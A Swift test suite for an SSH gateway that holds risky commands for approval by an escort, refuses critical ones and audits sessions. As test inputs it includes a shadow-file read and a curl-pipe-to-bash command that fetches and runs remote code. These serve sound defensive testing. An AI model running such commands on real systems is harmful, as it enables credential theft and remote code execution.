import AuditLog
import EscortCore
import EscortTesting
import Foundation
import Gateway
import Testing

/// The gateway with the stock OpenSSH client: exec and interactive sessions, holds, escorts.
@Suite(.serialized)
struct GatewaySessionTests {
    static let sshAvailable = FileManager.default.isExecutableFile(atPath: "/usr/bin/ssh")

    @Test(.enabled(if: sshAvailable))
    func execRunsAHarmlessCommandAndReturnsItsStatus() async throws {
        let gw = try await GatewayFixture()
        defer { Task { await gw.close() } }
        let ok = try gw.ssh("alice+local", as: "alice", tty: false, command: ["--", "echo hello-from-target; exit 3"])
        let status = await ok.waitForExit()
        #expect(ok.output.contains("hello-from-target"), "output: \(ok.output) err: \(ok.errorOutput)")
        #expect(status == 3)
        let codes = try await gw.events().map(\.0)
        #expect(codes.contains(AuditEventCode.commandForwarded.code))
        #expect(codes.contains(AuditEventCode.sessionStarted.code))
    }

    @Test(.enabled(if: sshAvailable))
    func interactiveSessionEchoesRunsAndStripsTheMarker() async throws {
        // Agentless: the prompt marker is how the gateway knows a command's end.
        let gw = try await GatewayFixture()
        defer { Task { await gw.close() } }
        let p = try gw.ssh("alice+plain", as: "alice", tty: true)
        #expect(await p.waitFor("plain:"), "no prompt: \(p.output) \(p.errorOutput)")
        p.send("echo one-$((40+2))\r")
        #expect(await p.waitFor("one-42"))
        // A multi-line paste becomes separate commands, each analysed.
        p.send("echo first-line\recho second-line\r")
        #expect(await p.waitFor("second-line"))
        p.send("echo $PS1\r")
        #expect(await p.waitFor("[escort-nonce]"), "the nonce must be redacted: \(p.output)")
        #expect(!p.output.contains("\u{1B}]777"), "markers leak: \(p.output)")
        p.send("\u{04}")
        #expect(await p.waitForExit() != nil)
        let forwarded = try await gw.events().filter { $0.0 == AuditEventCode.commandForwarded.code }.compactMap { $0.1["command"]?.stringValue }
        #expect(forwarded.contains("echo first-line"))
        #expect(forwarded.contains("echo second-line"))
    }

    @Test(.enabled(if: sshAvailable))
    func escortedSessionWaitsForEscortAndHeldCommandNeedsApproval() async throws {
        let gw = try await GatewayFixture()
        defer { Task { await gw.close() } }
        let alice = try gw.ssh("alice+secure", as: "alice", tty: true)
        #expect(await alice.waitFor("secure:"), "no prompt: \(alice.output) \(alice.errorOutput)")
        alice.send("echo before-$((1+1))-escort\r")
        #expect(await alice.waitFor("waiting for an escort"))
        #expect(!alice.output.contains("before-2-escort"))

        let bob = try gw.ssh("bob", as: "bob", tty: true)
        #expect(await bob.waitFor("alice on secure"), "console: \(bob.output) \(bob.errorOutput)")
        bob.send("watch 1\r")
        #expect(await bob.waitFor("Attached"))
        #expect(await alice.waitFor("before-2-escort"))

        let mark = alice.output.count
        alice.send("cat /etc/shadow\r")
        #expect(await alice.waitFor("held for an escort", after: mark))
        #expect(await bob.waitFor("HELD #"))
        #expect(await bob.waitFor("ATT&CK: T1003.008"))
        // The engineer cannot approve her own command, and a refusal needs a reason.
        bob.send("refuse\r")
        #expect(await bob.waitFor("needs a reason"))
        bob.send("refuse not needed for this ticket\r")
        #expect(await alice.waitFor("refused by bob: not needed for this ticket"))

        alice.send("ls /etc/passwd-does-not-exist; cat /etc/shadow\r")
        #expect(await bob.waitFor("HELD #2"))
        #expect(await bob.approveHeld())
        #expect(await alice.waitFor("approved by bob"))

        // Critical in an escorted session: refused outright.
        let mark2 = alice.output.count
        alice.send("curl -s http://203.0.113.9/x | bash\r")
        #expect(await alice.waitFor("refused", after: mark2))

        bob.send("end enough for today\r")
        #expect(await alice.waitFor("ended this session"))
        #expect(await alice.waitForExit() != nil)
        bob.send("quit\r")
        _ = await bob.waitForExit()

        let events = try await gw.events()
        let codes = events.map(\.0)
        #expect(codes.contains(AuditEventCode.commandHeld.code))
        #expect(codes.contains(AuditEventCode.commandApproved.code))
        #expect(codes.contains(AuditEventCode.escortAttached.code))
        #expect(codes.contains(AuditEventCode.sessionKilled.code))
        #expect(codes.contains(AuditEventCode.recordingClosed.code))
        let forwarded = events.filter { $0.0 == AuditEventCode.commandForwarded.code }.compactMap { $0.1["command"]?.stringValue }
        #expect(!forwarded.contains("cat /etc/shadow"))
        #expect(!forwarded.contains { $0.contains("curl") })
    }

    /// A command that floods the terminal: the engineer gets every byte; the recording keeps the
    /// budget and the audit log the count and SHA-256 of the rest.
    @Test(.enabled(if: sshAvailable))
    func outputBeyondTheRecordingBudgetIsCountedAndHashed() async throws {
        let gw = try await GatewayFixture(recordedOutputPerCommand: 1000)
        defer { Task { await gw.close() } }
        let p = try gw.ssh("alice+local", as: "alice", tty: false, command: ["--", "head -c 300000 /dev/zero | tr '\\0' a"])
        let status = await p.waitForExit()
        #expect(status == 0, "\(p.errorOutput) \(p.output.suffix(200))")
        #expect(p.output.utf8.count == 300_000 && p.output.utf8.allSatisfy { $0 == UInt8(ascii: "a") }, "got \(p.output.utf8.count) bytes")
        let finished = try await gw.events().first { $0.0 == AuditEventCode.commandFinished.code }?.1
        #expect(finished?["unrecorded_output_bytes"] == .integer(299_000))
        let digest = try await ChildProcess.run("/bin/sh", ["-c", "head -c 299000 /dev/zero | tr '\\0' a | sha256sum"]).stdout.prefix(64)
        #expect(finished?["unrecorded_output_sha256"]?.stringValue == String(digest))
        let files = try FileManager.default.contentsOfDirectory(atPath: gw.dir.file("recordings"))
        let cast = try String(contentsOfFile: gw.dir.file("recordings/\(files[0])"), encoding: .utf8)
        #expect(cast.contains("output not recorded beyond 1000 bytes: 299000 more bytes, sha256 \(digest)"))
        #expect(cast.filter { $0 == "a" }.count < 1100)
    }

    /// Evasion: run a script Escort cannot read (missing, unreadable, or a read that times out),
    /// hoping the unread script is rated by the rest of the line. It is held for an escort.
    @Test(.enabled(if: sshAvailable))
    func aScriptThatCannotBeReadIsHeldNotRun() async throws {
        let gw = try await GatewayFixture()
        defer { Task { await gw.close() } }
        let p = try gw.ssh("alice+local", as: "alice", tty: true)
        #expect(await p.waitFor("local:"), "no prompt: \(p.output) \(p.errorOutput)")
        p.send("bash ./not-there.sh\r")
        #expect(await p.waitFor("held for an escort"), "output: \(p.output)")
        // Both the engineer and the escort are told why: the script is not there to read.
        #expect(await p.waitFor("which Escort could not read from the target"), "output: \(p.output)")
        #expect(p.output.contains("./not-there.sh (not a readable file at "), "output: \(p.output)")
        p.send("\u{03}")
        #expect(await p.waitFor("withdrawn"))
        p.send("\u{04}")
        _ = await p.waitForExit()
        let events = try await gw.events()
        let held = events.first { $0.0 == AuditEventCode.commandHeld.code }?.1
        #expect(held?["unseen_scripts"] == .array([.string("./not-there.sh")]))
        let reasons = held.flatMap { $0["reasons"] }.map { "\($0)" } ?? ""
        #expect(reasons.contains("not a readable file at"), "\(reasons)")
        #expect(!events.contains { $0.0 == AuditEventCode.commandForwarded.code && $0.1["command"]?.stringValue == "bash ./not-there.sh" })
    }
}
